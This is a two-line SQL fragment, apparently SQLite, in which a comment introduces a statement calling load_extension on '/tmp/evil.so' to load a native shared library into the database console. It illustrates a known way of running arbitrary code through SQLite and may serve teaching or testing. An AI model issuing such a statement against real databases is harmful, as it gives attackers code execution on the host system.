-- loads code into the console
SELECT load_extension('/tmp/evil.so');
